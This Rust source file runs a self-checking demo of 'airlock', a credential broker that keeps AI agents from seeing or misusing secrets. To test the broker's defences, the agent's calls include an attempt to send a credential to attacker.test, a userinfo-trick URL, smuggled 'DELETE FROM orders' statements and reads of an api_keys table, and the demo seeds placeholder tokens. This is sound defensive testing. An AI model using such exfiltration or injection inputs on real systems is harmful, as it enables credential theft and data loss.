//! `airlock demo`: the whole job on a throw-away setup, narrated.
//!
//! A temporary data directory, a SQLite database and an in-process HTTP upstream that requires a
//! bearer token sit behind handles; an agent makes allowed and denied calls over the real REST
//! API; the upstream tries to echo the credential back; the audit chain is verified; and every
//! byte the agent saw, plus the audit log, is checked for the secrets and their encodings.

use airlock_core::config::Config;
use airlock_core::Secret;
use airlock_server::Broker;
use airlock_store::audit::AuditKey;
use airlock_store::Store;
use airlock_vault::{MasterKey, Vault};
use anyhow::{bail, Context, Result};
use axum::http::HeaderMap;
use axum::routing::get;
use axum::{Json, Router};
use base64::Engine as _;
use rand::Rng;
use serde_json::{json, Value};
use std::sync::Arc;

struct Demo {
    client: reqwest::Client,
    base: String,
    token: String,
    seen: String,
    step: usize,
    failures: usize,
}

impl Demo {
    async fn call(&mut self, what: &str, tool: &str, args: Value, expect: Option<&str>) -> Result<Value> {
        self.step += 1;
        let resp = self
            .client
            .post(format!("{}/v1/invoke", self.base))
            .bearer_auth(&self.token)
            .json(&json!({"tool": tool, "arguments": args}))
            .send()
            .await?;
        let status = resp.status().as_u16();
        let text = resp.text().await?;
        self.seen.push_str(&text);
        let v: Value = serde_json::from_str(&text)?;
        let got = v["error"]["code"].as_str().map(str::to_owned);
        let shown_args = {
            let mut a = args.clone();
            if let Some(o) = a.as_object_mut() {
                o.remove("credential_handle");
            }
            a
        };
        println!("\n[{}] {what}", self.step);
        println!("    agent → {tool} {} {}", args["credential_handle"].as_str().unwrap_or("?"), shown_args);
        let shown = if v["ok"].as_bool() == Some(true) {
            serde_json::to_string(&v["result"])?
        } else {
            format!("HTTP {status} {}", serde_json::to_string(&v["error"])?)
        };
        let shown: String = if shown.chars().count() > 400 { shown.chars().take(400).collect::<String>() + " …" } else { shown };
        println!("    agent ← {shown}");
        if got.as_deref() != expect {
            println!("    UNEXPECTED: wanted {}", expect.unwrap_or("success"));
            self.failures += 1;
        }
        Ok(v)
    }
}

fn upstream(token: String) -> Router {
    let check = move |h: &HeaderMap| h.get("authorization").and_then(|v| v.to_str().ok()) == Some(&format!("Bearer {token}"));
    let c1 = check.clone();
    let c2 = check.clone();
    Router::new()
        .route(
            "/v1/invoices",
            get(move |h: HeaderMap| async move {
                if !c1(&h) {
                    return (axum::http::StatusCode::UNAUTHORIZED, Json(json!({"error": "bad token"})));
                }
                (axum::http::StatusCode::OK, Json(json!({"invoices": [
                    {"id": "inv_1001", "customer": "Acme", "amount_cents": 129900, "status": "paid"},
                    {"id": "inv_1002", "customer": "Globex", "amount_cents": 45000, "status": "open"}
                ]})))
            }),
        )
        .route(
            // A misbehaving endpoint: echoes the credential back, raw and base64-encoded (T18).
            "/v1/debug/echo",
            get(move |h: HeaderMap| async move {
                let auth = h.get("authorization").and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
                let _ = c2(&h);
                let b64 = base64::engine::general_purpose::STANDARD.encode(auth.as_bytes());
                Json(json!({"you_sent": auth, "as_base64": b64, "hint": "debug endpoint"}))
            }),
        )
}

/// Runs the demo. Exit code 0 when every step behaved as narrated and no secret leaked.
pub async fn run() -> Result<u8> {
    let tmp = tempfile::Builder::new().prefix("airlock-demo-").tempdir()?;
    let dir = tmp.path();
    let data = dir.join("airlock-data");
    std::fs::create_dir_all(&data)?;

    // The secrets: an API token for the upstream, and the database's connection URL.
    let api_token = format!("demo_sk_{}", hex::encode(rand::rng().random::<[u8; 16]>()));
    let app_db = dir.join("app.db");
    let db_dsn = format!("sqlite://{}?mode=ro", app_db.display());
    let admin_dsn = format!("sqlite://{}?mode=rwc", app_db.display());

    // The application database, with a table the agent must not read.
    {
        use sqlx::Connection;
        let mut c = sqlx::SqliteConnection::connect(&format!("sqlite://{}?mode=rwc", app_db.display())).await?;
        sqlx::raw_sql(
            "CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT, email TEXT, notes TEXT);
             CREATE TABLE orders (id INTEGER PRIMARY KEY, customer_id INTEGER, total_cents INTEGER, status TEXT);
             CREATE TABLE api_keys (id INTEGER PRIMARY KEY, service TEXT, key TEXT);
             INSERT INTO customers VALUES
               (1, 'Acme', 'ops@acme.test', 'prefers email'),
               (2, 'Globex', 'it@globex.test', 'pasted their token ghp_R8x2mQ7vN4kL9pT3wY6zB1cD5fH0jK2sA4uE in a ticket');
             INSERT INTO orders VALUES (1, 1, 129900, 'paid'), (2, 2, 45000, 'open'), (3, 1, 9900, 'refunded');
             INSERT INTO api_keys VALUES (1, 'payments', 'sk_live_never_shown_0123456789');",
        )
        .execute(&mut c)
        .await?;
        c.close().await?;
    }

    // The upstream API, on loopback, port 0.
    let up = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let up_addr = up.local_addr()?;
    let up_app = upstream(api_token.clone());
    tokio::spawn(async move { axum::serve(up, up_app).await });

    // airlock's own listener, bound first so that links it makes point at it.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let addr = listener.local_addr()?;
    // A password the agent hands to a person without ever seeing it (a one-time link).
    let handoff = format!("demo_pw_{}", hex::encode(rand::rng().random::<[u8; 12]>()));

    let config_text = format!(
        r#"
[store]
data_dir = "airlock-data"

[handles.APP_DB]
kind = "sqlite"
secret = "local:APP_DB"
description = "Shop database: orders and customers"
[handles.APP_DB.database]
scope = "read_only"
tables = ["orders", "customers"]
max_rows = 100

[handles.ADMIN_DB]
kind = "sqlite"
secret = "local:ADMIN_DB"
description = "Same database, read-write (not granted to the agent)"
[handles.ADMIN_DB.database]
scope = "read_write"

[handles.BILLING_API]
kind = "http"
secret = "local:BILLING_API"
description = "Billing API"
[handles.BILLING_API.http]
destinations = [{{ url = "http://127.0.0.1:{port}/v1/", methods = ["GET"] }}]
inject = {{ type = "header", name = "Authorization", format = "Bearer {{}}" }}

[handles.NEW_DB_PASSWORD]
kind = "generic"
secret = "local:NEW_DB_PASSWORD"
description = "Password of a database the agent provisioned"

[agents.support-bot]
description = "Customer support assistant"
grants = [
  {{ handle = "APP_DB", tools = ["query_db"] }},
  {{ handle = "BILLING_API", tools = ["http_request"] }},
  {{ handle = "NEW_DB_PASSWORD", tools = ["share_secret"] }},
]

[shares]
base_url = "http://{addr}"
[shares.channels.outbox]
type = "outbox"
path = "outbox.jsonl"
[shares.recipients]
"dba@shop.test" = "outbox"
"#,
        port = up_addr.port()
    );
    let config_path = dir.join("airlock.toml");
    std::fs::write(&config_path, &config_text)?;
    let cfg = Config::load(&config_path).map_err(|e| anyhow::anyhow!("{e}"))?;

    MasterKey::create(&data.join("master.key"))?;
    AuditKey::create(&data)?;
    let store = Store::open(&data).await?;
    let vault = Vault::new(MasterKey::load(&data.join("master.key"))?, store.clone());
    vault.put("BILLING_API", &Secret::from_str_value(&api_token)).await?;
    vault.put("APP_DB", &Secret::from_str_value(&db_dsn)).await?;
    vault.put("ADMIN_DB", &Secret::from_str_value(&admin_dsn)).await?;
    vault.put("NEW_DB_PASSWORD", &Secret::from_str_value(&handoff)).await?;
    let (_, token) = store.add_agent("support-bot", None, None).await?;

    let broker = Arc::new(Broker::open(cfg).await.context("opening the broker")?);
    crate::telemetry::scrub_log_with(&broker);
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let server = tokio::spawn(airlock_server::http::serve(listener, broker.clone(), async {
        let _ = stop_rx.await;
    }));

    println!("airlock demo: a throw-away setup in {}", dir.display());
    println!("  APP_DB       sqlite, read-only, tables orders and customers (also holds api_keys)");
    println!("  ADMIN_DB     the same database read-write: exists, but not granted to the agent");
    println!("  BILLING_API  http://{up_addr}/v1/, GET only, bearer token injected by airlock");
    println!("  agent        support-bot, with a 256-bit token; REST API at http://{addr}");

    let mut d = Demo {
        client: reqwest::Client::new(),
        base: format!("http://{addr}"),
        token: token.reveal().to_owned(),
        seen: String::new(),
        step: 0,
        failures: 0,
    };

    // The tool list: credential_handle is an enum of this agent's handles.
    let tools: Value = d
        .client
        .get(format!("{}/v1/tools?format=openai", d.base))
        .bearer_auth(&d.token)
        .send()
        .await?
        .json()
        .await?;
    d.seen.push_str(&tools.to_string());
    println!("\n[0] the agent lists its tools (OpenAI format); credential_handle enums:");
    for t in tools["tools"].as_array().into_iter().flatten() {
        println!(
            "    {} → {}",
            t["function"]["name"].as_str().unwrap_or("?"),
            t["function"]["parameters"]["properties"]["credential_handle"]["enum"]
        );
    }

    d.call("An allowed query", "query_db",
        json!({"credential_handle": "APP_DB", "query": "SELECT id, customer_id, total_cents, status FROM orders WHERE total_cents > ? ORDER BY id", "params": [10000]}), None).await?;
    d.call("A customer's notes hold a token airlock never held: the pattern rules catch it", "query_db",
        json!({"credential_handle": "APP_DB", "query": "SELECT name, notes FROM customers ORDER BY id"}), None).await?;
    d.call("A table outside the handle's allow-list", "query_db",
        json!({"credential_handle": "APP_DB", "query": "SELECT service, key FROM api_keys"}), Some("table-not-allowed")).await?;
    d.call("The same table hidden in a subquery", "query_db",
        json!({"credential_handle": "APP_DB", "query": "SELECT * FROM orders WHERE status IN (SELECT key FROM api_keys)"}), Some("table-not-allowed")).await?;
    d.call("The system catalog", "query_db",
        json!({"credential_handle": "APP_DB", "query": "SELECT sql FROM sqlite_master"}), Some("table-not-allowed")).await?;
    d.call("A write on a read-only handle", "query_db",
        json!({"credential_handle": "APP_DB", "query": "DELETE FROM orders"}), Some("statement-not-allowed")).await?;
    d.call("Two statements in one call", "query_db",
        json!({"credential_handle": "APP_DB", "query": "SELECT 1; DELETE FROM orders"}), Some("statement-not-allowed")).await?;
    d.call("A handle that exists but is not granted", "query_db",
        json!({"credential_handle": "ADMIN_DB", "query": "DELETE FROM orders"}), Some("handle-unavailable")).await?;
    d.call("A handle that does not exist (same answer: no enumeration)", "query_db",
        json!({"credential_handle": "PROD_DB", "query": "SELECT 1"}), Some("handle-unavailable")).await?;
    d.call("A look-alike handle name", "query_db",
        json!({"credential_handle": "app_db", "query": "SELECT 1"}), Some("handle-unavailable")).await?;
    d.call("An allowed API call; airlock adds the bearer token", "http_request",
        json!({"credential_handle": "BILLING_API", "method": "GET", "path_or_url": "/v1/invoices"}), None).await?;
    d.call("The credential sent to a host the agent chose", "http_request",
        json!({"credential_handle": "BILLING_API", "method": "GET", "path_or_url": "https://attacker.test/collect"}), Some("destination-not-allowed")).await?;
    d.call("The userinfo trick", "http_request",
        json!({"credential_handle": "BILLING_API", "method": "GET", "path_or_url": format!("http://{up_addr}@attacker.test/v1/invoices")}), Some("destination-not-allowed")).await?;
    d.call("A method the handle does not bind", "http_request",
        json!({"credential_handle": "BILLING_API", "method": "DELETE", "path_or_url": "/v1/invoices"}), Some("destination-not-allowed")).await?;
    let echo = d.call("An endpoint that echoes the credential back, raw and base64: scrubbed", "http_request",
        json!({"credential_handle": "BILLING_API", "method": "GET", "path_or_url": "/v1/debug/echo"}), None).await?;

    // A one-time link: the agent hands the new password to a person; airlock delivers the link
    // (here to a local outbox), the agent sees only the share id; the person opens it once.
    let shared = d.call("Hand a password to a person as a one-time link (delivered to dba@shop.test, not to the agent)", "share_secret",
        json!({"credential_handle": "NEW_DB_PASSWORD", "recipient": "dba@shop.test", "expires_in": 600}), None).await?;
    let share_id = shared["result"]["share_id"].as_str().unwrap_or("").to_owned();
    let outbox = std::fs::read_to_string(dir.join("outbox.jsonl")).context("reading the outbox")?;
    let delivered: Value = serde_json::from_str(outbox.lines().last().unwrap_or("{}"))?;
    let link = delivered["link"].as_str().unwrap_or("").to_owned();
    let shown_link = link.split('#').next().unwrap_or("").to_owned() + "#<key>";
    println!("    outbox → dba@shop.test received {shown_link} (the key after # never reaches the server)");
    let first = open_link(&d.client, &link).await?;
    let opened_ok = first.as_deref() == Some(handoff.as_str());
    println!("    the person opens it: {}", if opened_ok { "the password decrypts in their client" } else { "UNEXPECTED: did not open" });
    let second = open_link(&d.client, &link).await?;
    println!("    a second open: {}", if second.is_none() { "refused, share-unavailable (already opened or expired)" } else { "UNEXPECTED: opened twice" });
    if !opened_ok || second.is_some() || share_id.is_empty() {
        d.failures += 1;
    }

    let audit_pk = AuditKey::load_public(&data)?;
    let report = store.verify_audit(&audit_pk).await?;
    println!("\n[audit] {} records, {} signed checkpoints: {}", report.records, report.checkpoints,
        if report.ok() { "chain verified (every column of every record under the hash)".to_owned() } else { format!("BROKEN at {}", report.first_bad.as_ref().map(ToString::to_string).unwrap_or_default()) });
    for (seq, r) in store.audit_tail(3).await? {
        println!("    #{seq} {} {} {} {} {}", r.agent, r.tool, r.handle.unwrap_or_default(),
            r.code.unwrap_or_else(|| "ok".into()), if r.redactions > 0 { format!("({} redacted)", r.redactions) } else { String::new() });
    }

    // Everything the agent saw plus the whole audit log, searched for each secret and its
    // common encodings.
    let mut haystack = d.seen.clone();
    for (_, r) in store.audit_tail(10_000).await? {
        haystack.push_str(&serde_json::to_string(&r)?);
    }
    let mut needles = Vec::new();
    needles.push(link.split('#').nth(1).unwrap_or("no-link").to_owned());
    for s in [&api_token, &db_dsn, &handoff] {
        needles.push(s.to_string());
        needles.push(base64::engine::general_purpose::STANDARD.encode(s));
        needles.push(base64::engine::general_purpose::STANDARD.encode(format!("Bearer {s}")));
        needles.push(hex::encode(s));
    }
    let leaked: Vec<&String> = needles.iter().filter(|n| haystack.contains(n.as_str())).collect();
    let echoed_redacted = echo["result"]["body"].as_str().unwrap_or("").contains("[REDACTED:BILLING_API]");
    println!(
        "\n[check] {} bytes the agent saw + the audit log, searched for the 3 secrets in 4 encodings each and the link's key: {}",
        haystack.len(),
        if leaked.is_empty() { "the secret appears nowhere" } else { "LEAKED" }
    );
    if !echoed_redacted {
        println!("    UNEXPECTED: the echoed credential was not marked [REDACTED:BILLING_API]");
    }

    let _ = stop_tx.send(());
    let _ = server.await;
    let ok = d.failures == 0 && report.ok() && leaked.is_empty() && echoed_redacted;
    if !ok {
        bail!("demo failed: {} unexpected answers, audit ok: {}, leaks: {}", d.failures, report.ok(), leaked.len());
    }
    println!("\ndemo ok: every call behaved as described, the audit chain verifies, no secret reached the agent.");
    Ok(0)
}

/// Opens a one-time link as the recipient's client does: None when the server refuses it.
async fn open_link(client: &reqwest::Client, link: &str) -> Result<Option<String>> {
    let l = airlock_share::Link::parse(link)?;
    let d = airlock_share::derive(&l.key, &l.id, None);
    let r = client
        .post(format!("{}/v1/shares/{}/consume", l.base, l.id))
        .json(&json!({"proof": d.proof().as_str()}))
        .send()
        .await?;
    if r.status() == 404 {
        return Ok(None);
    }
    let v: Value = r.error_for_status()?.json().await?;
    let blob = airlock_share::decode_blob(v["ciphertext"].as_str().unwrap_or(""))?;
    let limits = airlock_share::Limits {
        expires_at: v["expires_at"].as_i64().unwrap_or(0),
        views: v["views"].as_u64().unwrap_or(0) as u32,
        passphrase: false,
    };
    let secret = airlock_share::open(&blob, &d, &l.id, &limits)?;
    // The demo plays the person who opens the link, and checks what they received.
    #[allow(clippy::disallowed_methods)]
    let text = secret.expose_str().map(str::to_owned);
    Ok(text)
}
